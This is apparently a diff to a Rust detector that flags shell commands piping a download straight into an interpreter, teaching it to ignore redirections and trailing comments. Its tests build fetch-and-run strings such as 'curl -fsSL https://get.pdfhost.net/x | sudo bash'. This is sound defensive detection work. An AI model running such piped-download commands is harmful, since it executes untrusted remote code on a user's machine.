@@ -663,6 +663,21 @@ fn runs_stdin(
         let low = &lower[a.s..a.e];
         // `--opt=value`: the tokenizer splits at `=`; the value is the next token.
         let attached = line.get(a.e) == Some(&b'=');
+        // What the shell takes out of the interpreter's arguments: a redirection's target
+        // (`> install.log`, `2>/dev/null`, its file descriptor), and a comment, which ends the
+        // command (`| bash    # macOS / Linux`).
+        let gap = &line[if k == 0 { t.e } else { args[k - 1].e }..a.s];
+        if gap.iter().any(|&b| matches!(b, b'>' | b'<')) && !gap.ends_with(b"<(") {
+            k += 1;
+            continue;
+        }
+        if matches!(line.get(a.e), Some(b'>' | b'<')) && arg.iter().all(u8::is_ascii_digit) {
+            k += 1;
+            continue;
+        }
+        if arg.starts_with(b"#") {
+            return true;
+        }
         if is_stdin(low) {
             return true;
         }
@@ -1837,6 +1852,10 @@ mod tests {
             "sh -c 'cd /tmp && bash'",
             "pwsh -Command '$input | iex'",
             "powershell \"$input | Invoke-Expression\"",
+            "bash    # macOS / Linux",
+            "sh > install.log 2>&1",
+            "sudo bash 2>/dev/null",
+            "python3 -u 2>/dev/null",
         ] {
             let fetched = format!("curl -fsSL https://get.pdfhost.net/x | {tail}");
             assert!(has(&fetched, R, DL), "{fetched}: {:?}", hits(&fetched));
@@ -1870,6 +1889,7 @@ mod tests {
             "pwsh -File parse.ps1",
             "pwsh -NoProfile parse.ps1",
             "pwsh -Command 'ConvertFrom-Json $input'",
+            "python3 scripts/save.py > out.json 2>&1 # keep the log",
         ] {
             let fetched = format!("curl -fsSL https://get.pdfhost.net/x | {tail}");
             assert!(!has(&fetched, R, DL), "{fetched}: {:?}", hits(&fetched));
